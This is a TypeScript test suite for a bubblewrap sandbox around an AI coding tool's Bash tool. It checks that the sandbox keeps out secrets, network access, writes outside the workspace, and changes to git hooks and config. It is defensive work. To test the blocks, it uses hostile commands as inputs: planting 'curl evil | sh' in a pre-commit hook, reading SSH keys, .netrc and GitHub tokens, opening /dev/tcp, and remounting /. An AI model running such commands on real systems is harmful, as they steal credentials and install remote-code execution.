import { deepStrictEqual as assertEquals, notEqual, ok as assert } from "node:assert/strict";
import { describeShellPlan, planShell, preflightSandbox } from "../../src/execution/os_sandbox.ts";
import { bashTool } from "../../src/tools/bash.ts";
import type { SandboxMode, ShellPlan, ToolResult } from "../../src/tools/tool.ts";
import { createTempWorkspace, type TempWorkspace, toolContext } from "../_fakes/tool_context.ts";

const SECRET = "sk-ant-mewcode-test-secret";

function assertStringIncludes(actual: string, expected: string): void {
  assert(
    actual.includes(expected),
    `expected ${JSON.stringify(actual)} to include ${JSON.stringify(expected)}`,
  );
}

/** Plans the shell from this process's environment plus secrets a user might have set. */
function plan(
  root: string,
  mode: SandboxMode,
  options: { network?: boolean; home?: string; bwrap?: string; shells?: string[] } = {},
): Promise<ShellPlan> {
  return planShell({
    root,
    mode,
    network: options.network ?? false,
    home: options.home ?? Deno.env.get("HOME"),
    env: {
      ...Deno.env.toObject(),
      ANTHROPIC_API_KEY: SECRET,
      GITHUB_TOKEN: SECRET,
      AWS_SECRET_ACCESS_KEY: SECRET,
    },
    ...(options.bwrap === undefined ? {} : { bwrap: options.bwrap }),
    ...(options.shells === undefined ? {} : { shells: options.shells }),
  });
}

async function run(root: string, shell: ShellPlan, command: string): Promise<ToolResult> {
  return await bashTool.execute(toolContext(root, { shell }), { command, timeout: 20_000 });
}

/** The text between <output> and </output>. */
function outputOf(result: ToolResult): string {
  const match = /<output>([\s\S]*)<\/output>/.exec(result.content);
  assert(match !== null, `no <output> in ${JSON.stringify(result.content)}`);
  return match[1] ?? "";
}

function exitCodeOf(result: ToolResult): number {
  const match = /<exit_code>(-?\d+)<\/exit_code>$/.exec(result.content);
  assert(match !== null, `no <exit_code> in ${JSON.stringify(result.content)}`);
  return Number(match[1]);
}

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.lstat(path);
    return true;
  } catch {
    return false;
  }
}

/** A git-like workspace: .git/hooks, .git/config and .mewcode/ as a real repository has them. */
async function createRepository(): Promise<TempWorkspace> {
  const workspace = await createTempWorkspace();
  await Deno.mkdir(`${workspace.root}/.git/hooks`, { recursive: true });
  await Deno.writeTextFile(`${workspace.root}/.git/config`, "[core]\n");
  await Deno.writeTextFile(`${workspace.root}/.git/HEAD`, "ref: refs/heads/main\n");
  await Deno.mkdir(`${workspace.root}/.mewcode`);
  await Deno.writeTextFile(`${workspace.root}/.mewcode/settings.json`, "{}\n");
  return workspace;
}

Deno.test("planShell's bubblewrap passes its preflight on this machine (REQUIRE_SANDBOX)", async () => {
  await using workspace = await createTempWorkspace();
  const shell = await plan(workspace.root, "workspace-write");
  assertEquals(shell.unavailable, null);
  assertEquals(shell.wrapper[0], "bwrap");
  assertEquals(shell.shell, "/bin/bash");
});

Deno.test("planShell builds the bubblewrap flags of the issue for workspace-write", async () => {
  await using workspace = await createRepository();
  const root = workspace.root;
  const { wrapper } = await plan(root, "workspace-write");
  const text = wrapper.join(" ");
  for (
    const flags of [
      "--die-with-parent --new-session --unshare-pid --unshare-ipc --unshare-uts --unshare-cgroup-try --unshare-net",
      "--cap-drop ALL --ro-bind / / --dev /dev --proc /proc --tmpfs /tmp",
      `--bind ${root} ${root} --bind ${root}/.git ${root}/.git`,
      `--ro-bind ${root}/.git/hooks ${root}/.git/hooks --ro-bind ${root}/.git/config ${root}/.git/config`,
      `--ro-bind ${root}/.mewcode ${root}/.mewcode`,
      "--clearenv --setenv",
      `--chdir ${root}`,
    ]
  ) assertStringIncludes(text, flags);
  assertEquals(text.includes(SECRET), false, "a secret reached the bubblewrap arguments");
});

Deno.test("planShell keeps an allowlist of the environment plus non-interactive settings, never secrets", async () => {
  await using workspace = await createTempWorkspace();
  for (const mode of ["workspace-write", "danger-full-access"] as const) {
    const { env } = await plan(workspace.root, mode, { home: "/home/someone" });
    assertEquals(Object.values(env).includes(SECRET), false);
    assertEquals(env.ANTHROPIC_API_KEY, undefined);
    assertEquals(env.HOME, "/home/someone");
    assertEquals(env.PATH, Deno.env.get("PATH") ?? env.PATH);
    for (
      const [name, value] of Object.entries({
        TERM: "dumb",
        PAGER: "cat",
        GIT_PAGER: "cat",
        GIT_EDITOR: "true",
        GIT_TERMINAL_PROMPT: "0",
        CI: "1",
      })
    ) assertEquals(env[name], value, name);
  }
});

Deno.test("The workspace-write sandbox lets a command write in the workspace", async () => {
  await using workspace = await createTempWorkspace();
  const shell = await plan(workspace.root, "workspace-write");
  const result = await run(workspace.root, shell, 'touch "$PWD/ok" && echo made');
  assertEquals(result.content, "<output>made</output>\n<exit_code>0</exit_code>");
  assertEquals(await exists(`${workspace.root}/ok`), true);
});

Deno.test("The workspace-write sandbox refuses writes to /etc and the home directory", async () => {
  await using workspace = await createTempWorkspace();
  const shell = await plan(workspace.root, "workspace-write");
  const name = `mewcode-sandbox-${crypto.randomUUID()}`;
  const etc = await run(workspace.root, shell, `touch /etc/${name}`);
  notEqual(exitCodeOf(etc), 0);
  assertStringIncludes(outputOf(etc), "Read-only file system");
  assertEquals(await exists(`/etc/${name}`), false);
  const home = await run(workspace.root, shell, `touch "$HOME/${name}"`);
  notEqual(exitCodeOf(home), 0);
  assertStringIncludes(outputOf(home), "Read-only file system");
  assertEquals(await exists(`${Deno.env.get("HOME")}/${name}`), false);
});

Deno.test("The sandbox keeps capabilities dropped, so root cannot remount / read-write", async () => {
  await using workspace = await createTempWorkspace();
  const shell = await plan(workspace.root, "workspace-write");
  const name = `mewcode-sandbox-${crypto.randomUUID()}`;
  const result = await run(workspace.root, shell, `mount -o remount,rw,bind / && touch /etc/${name}`);
  notEqual(exitCodeOf(result), 0);
  assertEquals(await exists(`/etc/${name}`), false);
});

Deno.test("The sandbox blocks a connection to a port on 127.0.0.1 unless the network is allowed", async () => {
  await using workspace = await createTempWorkspace();
  using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const accepting = (async () => {
    for await (const connection of listener) connection.close();
  })().catch(() => {});
  const command = `exec 3<>/dev/tcp/127.0.0.1/${listener.addr.port} && echo connected`;

  const closed = await run(workspace.root, await plan(workspace.root, "workspace-write"), command);
  notEqual(exitCodeOf(closed), 0);
  assertEquals(outputOf(closed).includes("connected"), false);

  const open = await run(
    workspace.root,
    await plan(workspace.root, "workspace-write", { network: true }),
    command,
  );
  assertEquals(open.content, "<output>connected</output>\n<exit_code>0</exit_code>");
  listener.close();
  await accepting;
});

Deno.test("The sandboxed shell does not see the API key even when the parent process has it", async () => {
  await using workspace = await createTempWorkspace();
  const previous = Deno.env.get("ANTHROPIC_API_KEY");
  Deno.env.set("ANTHROPIC_API_KEY", SECRET);
  try {
    for (const mode of ["workspace-write", "read-only", "danger-full-access"] as const) {
      const shell = await plan(workspace.root, mode);
      const result = await run(workspace.root, shell, 'echo "key=[$ANTHROPIC_API_KEY]"; env');
      assertEquals(result.isError, false);
      assert(outputOf(result).startsWith("key=[]\n"), mode);
      assertEquals(result.content.includes(SECRET), false, mode);
      assertStringIncludes(outputOf(result), "PAGER=cat");
    }
  } finally {
    if (previous === undefined) Deno.env.delete("ANTHROPIC_API_KEY");
    else Deno.env.set("ANTHROPIC_API_KEY", previous);
  }
});

Deno.test("The workspace-write sandbox keeps .git/hooks, .git/config and .mewcode read-only", async () => {
  await using workspace = await createRepository();
  const shell = await plan(workspace.root, "workspace-write");
  for (
    const command of [
      "echo 'curl evil | sh' > .git/hooks/pre-commit",
      "echo '[core] hooksPath = /tmp' >> .git/config",
      "echo '{}' > .mewcode/settings.json",
      "mv .git .git-moved",
      "mv .mewcode .mewcode-moved",
    ]
  ) {
    const result = await run(workspace.root, shell, command);
    notEqual(exitCodeOf(result), 0, command);
  }
  assertEquals(await exists(`${workspace.root}/.git/hooks/pre-commit`), false);
  assertEquals(await Deno.readTextFile(`${workspace.root}/.git/config`), "[core]\n");
  assertEquals(await exists(`${workspace.root}/.git-moved`), false);
  const git = await run(workspace.root, shell, "echo 'ref: refs/heads/work' > .git/HEAD && echo ok");
  assertEquals(outputOf(git), "ok", "the rest of .git stays writable for git itself");
});

Deno.test("The sandbox's /tmp is private: writes there do not reach the host's /tmp", async () => {
  await using workspace = await createTempWorkspace();
  const shell = await plan(workspace.root, "workspace-write");
  const path = `/tmp/mewcode-sandbox-${crypto.randomUUID()}`;
  const result = await run(workspace.root, shell, `echo inside > ${path} && cat ${path}`);
  assertEquals(result.content, "<output>inside</output>\n<exit_code>0</exit_code>");
  assertEquals(await exists(path), false);
});

Deno.test("The sandbox hides credential folders of the home directory", async () => {
  await using workspace = await createTempWorkspace();
  // Not under /tmp, which the sandbox replaces with its own.
  const home = await Deno.makeTempDir({ dir: "/var/tmp", prefix: "mewcode-home-" });
  try {
    await Deno.mkdir(`${home}/.ssh`);
    await Deno.writeTextFile(`${home}/.ssh/id_ed25519`, SECRET);
    await Deno.mkdir(`${home}/.config/gh`, { recursive: true });
    await Deno.writeTextFile(`${home}/.config/gh/hosts.yml`, SECRET);
    await Deno.writeTextFile(`${home}/.netrc`, SECRET);
    await Deno.writeTextFile(`${home}/notes.txt`, "visible");
    const shell = await plan(workspace.root, "workspace-write", { home });
    const result = await run(
      workspace.root,
      shell,
      "cat ~/.ssh/id_ed25519 ~/.config/gh/hosts.yml ~/.netrc 2>/dev/null; ls -A ~/.ssh; cat ~/notes.txt",
    );
    assertEquals(outputOf(result), "visible");
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("The sandbox hides credential folders even when the workspace is the home directory", async () => {
  const home = await Deno.makeTempDir({ dir: "/var/tmp", prefix: "mewcode-home-" });
  try {
    await Deno.mkdir(`${home}/.ssh`);
    await Deno.writeTextFile(`${home}/.ssh/id_ed25519`, SECRET);
    const shell = await plan(home, "workspace-write", { home });
    const result = await run(home, shell, "cat ~/.ssh/id_ed25519; echo new > ~/.ssh/id_ed25519; touch ~/ok");
    assertEquals(result.content.includes(SECRET), false);
    assertEquals(await Deno.readTextFile(`${home}/.ssh/id_ed25519`), SECRET);
    assertEquals(await exists(`${home}/ok`), true);
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("The sandbox runs the shell in its own PID namespace", async () => {
  await using workspace = await createTempWorkspace();
  const shell = await plan(workspace.root, "workspace-write");
  const result = await run(
    workspace.root,
    shell,
    `kill -0 ${Deno.pid} 2>/dev/null && echo visible || echo hidden`,
  );
  assertEquals(outputOf(result), "hidden");
});

Deno.test("The read-only sandbox refuses even writes in the workspace", async () => {
  await using workspace = await createTempWorkspace();
  const shell = await plan(workspace.root, "read-only");
  assertStringIncludes(shell.wrapper.join(" "), `--ro-bind ${workspace.root} ${workspace.root}`);
  const result = await run(workspace.root, shell, 'touch "$PWD/ok"');
  notEqual(exitCodeOf(result), 0);
  assertStringIncludes(outputOf(result), "Read-only file system");
  assertEquals(await exists(`${workspace.root}/ok`), false);
  const read = await run(workspace.root, shell, "pwd; ls /");
  assertEquals(exitCodeOf(read), 0, "reading still works");
});

Deno.test("danger-full-access runs the shell unsandboxed but with the cleared environment", async () => {
  await using workspace = await createTempWorkspace();
  const shell = await plan(workspace.root, "danger-full-access");
  assertEquals(shell.wrapper, []);
  assertEquals(shell.unavailable, null);
  const path = `/tmp/mewcode-unsandboxed-${crypto.randomUUID()}`;
  try {
    const result = await run(
      workspace.root,
      shell,
      `touch ${path}; pwd; echo "key=[$ANTHROPIC_API_KEY] pager=$PAGER"`,
    );
    assertEquals(outputOf(result), `${workspace.root}\nkey=[] pager=cat`);
    assertEquals(await exists(path), true, "the host's /tmp was written");
  } finally {
    await Deno.remove(path).catch(() => {});
  }
});

Deno.test("A missing bubblewrap makes Bash fail with an actionable message and run nothing", async () => {
  await using workspace = await createTempWorkspace();
  const shell = await plan(workspace.root, "workspace-write", { bwrap: "/nonexistent/mewcode/bwrap" });
  assert(shell.unavailable !== null);
  for (
    const hint of [
      "not installed",
      "apt-get install bubblewrap",
      "kernel.apparmor_restrict_unprivileged_userns",
      "--sandbox danger-full-access",
    ]
  ) assertStringIncludes(shell.unavailable, hint);
  const result = await bashTool.execute(toolContext(workspace.root, { shell }), { command: "touch ran" });
  assertEquals(result.isError, true);
  assertEquals(result.content, shell.unavailable);
  assertEquals(await exists(`${workspace.root}/ran`), false);
});

Deno.test("A bubblewrap that cannot create namespaces fails the preflight with the AppArmor hint", async () => {
  await using workspace = await createTempWorkspace();
  const fake = `${workspace.root}/fake-bwrap`;
  await Deno.writeTextFile(
    fake,
    "#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n",
  );
  await Deno.chmod(fake, 0o755);
  const shell = await plan(workspace.root, "read-only", { bwrap: fake });
  assert(shell.unavailable !== null);
  assertStringIncludes(shell.unavailable, "setting up uid map: Permission denied");
  assertStringIncludes(shell.unavailable, "kernel.apparmor_restrict_unprivileged_userns");
  assertStringIncludes(shell.unavailable, "--sandbox danger-full-access");
  const result = await bashTool.execute(toolContext(workspace.root, { shell }), { command: "true" });
  assertEquals(result.isError, true);
  assertEquals(result.metadata.status, "unavailable");
});

Deno.test("preflightSandbox accepts the real bubblewrap and an empty wrapper", async () => {
  await using workspace = await createTempWorkspace();
  const shell = await plan(workspace.root, "workspace-write");
  assertEquals(await preflightSandbox({ wrapper: shell.wrapper, shell: shell.shell, mode: shell.mode }), {
    ok: true,
  });
  assertEquals(await preflightSandbox({ wrapper: [], shell: "/bin/sh", mode: "danger-full-access" }), {
    ok: true,
  });
});

Deno.test("planShell falls back to /bin/sh where bash is missing, and fails without any shell", async () => {
  await using workspace = await createTempWorkspace();
  const shells = ["/nonexistent/mewcode/bash", "/bin/sh"];
  for (const mode of ["workspace-write", "danger-full-access"] as const) {
    const shell = await plan(workspace.root, mode, { shells });
    // danger-full-access may name the same file as PATH resolves `sh` (/usr/bin/sh on merged-/usr systems).
    if (mode === "danger-full-access") {
      assertEquals(await Deno.realPath(shell.shell), await Deno.realPath("/bin/sh"));
      assertEquals(shell.shell.endsWith("/sh"), true, shell.shell);
    } else {
      assertEquals(shell.shell, "/bin/sh");
    }
    assertEquals(shell.unavailable, null);
    const result = await run(workspace.root, shell, "echo out; echo err >&2; exit 4");
    assertEquals(result.content, "<output>out\nerr</output>\n<exit_code>4</exit_code>");
  }
  const none = await plan(workspace.root, "workspace-write", { shells: ["/nonexistent/mewcode/bash"] });
  assert(none.unavailable !== null);
  assertStringIncludes(none.unavailable, "no shell found");
});

Deno.test("planShell names an unsandboxed shell by its first match on PATH when that is the same file", async (t) => {
  await using workspace = await createTempWorkspace();
  const real = `${workspace.root}/usr/bin`;
  await Deno.mkdir(real, { recursive: true });
  await Deno.writeTextFile(`${real}/bash`, "#!/bin/sh\n");
  await Deno.symlink(real, `${workspace.root}/bin`);
  const other = `${workspace.root}/other`;
  await Deno.mkdir(other);
  await Deno.writeTextFile(`${other}/bash`, "#!/bin/sh\n");
  const shells = [`${workspace.root}/bin/bash`];
  const planWith = (mode: SandboxMode, path: string | undefined) =>
    planShell({
      root: workspace.root,
      mode,
      network: false,
      home: undefined,
      env: path === undefined ? {} : { PATH: path },
      shells,
      bwrap: "/nonexistent/mewcode/bwrap",
    });
  await t.step("the first match is the same file under another name: use that name", async () => {
    const shell = await planWith("danger-full-access", `relative:${workspace.root}/none:${real}`);
    assertEquals(shell.shell, `${real}/bash`);
    assertEquals(shell.unavailable, null);
  });
  await t.step("the first match is another bash: keep the shell found", async () => {
    assertEquals((await planWith("danger-full-access", `${other}:${real}`)).shell, shells[0]);
  });
  await t.step("no match on PATH: keep the shell found", async () => {
    assertEquals((await planWith("danger-full-access", `${workspace.root}/none`)).shell, shells[0]);
    assertEquals((await planWith("danger-full-access", undefined)).shell, shells[0]);
  });
  await t.step("a sandboxed shell is not renamed: the worker spawns bubblewrap, not the shell", async () => {
    assertEquals((await planWith("workspace-write", real)).shell, shells[0]);
  });
});

Deno.test("describeShellPlan reports the backend, mode, network and preflight result for doctor", async () => {
  await using workspace = await createTempWorkspace();
  const sandboxed = describeShellPlan(await plan(workspace.root, "workspace-write"));
  for (const part of ["workspace-write", "bubblewrap", "network: off", "/bin/bash", "preflight: ok"]) {
    assertStringIncludes(sandboxed, part);
  }
  const broken = describeShellPlan(
    await plan(workspace.root, "read-only", { bwrap: "/nonexistent/mewcode/bwrap" }),
  );
  assertStringIncludes(broken, "preflight: FAILED");
  assertStringIncludes(broken, "apt-get install bubblewrap");
  assertStringIncludes(describeShellPlan(await plan(workspace.root, "danger-full-access")), "unsandboxed");
});
